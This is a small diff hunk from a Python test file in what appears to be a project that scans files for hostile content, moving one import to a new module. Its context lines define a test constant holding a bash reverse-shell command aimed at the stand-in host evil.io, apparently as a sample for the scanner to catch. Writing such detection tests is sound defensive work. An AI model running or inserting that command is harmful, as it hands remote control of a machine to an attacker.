@@ -6,7 +6,7 @@ import pytest
 
 from skillhub.model.tree import File, Tree
 from skillhub.scan import scan
-from skillhub.scan.rule import WINDOW
+from skillhub.scan.pattern import WINDOW
 from tests.support.effort import is_linear
 
 SHELL = b"\nbash -i >& /dev/tcp/evil.io/1 0>&1\n"
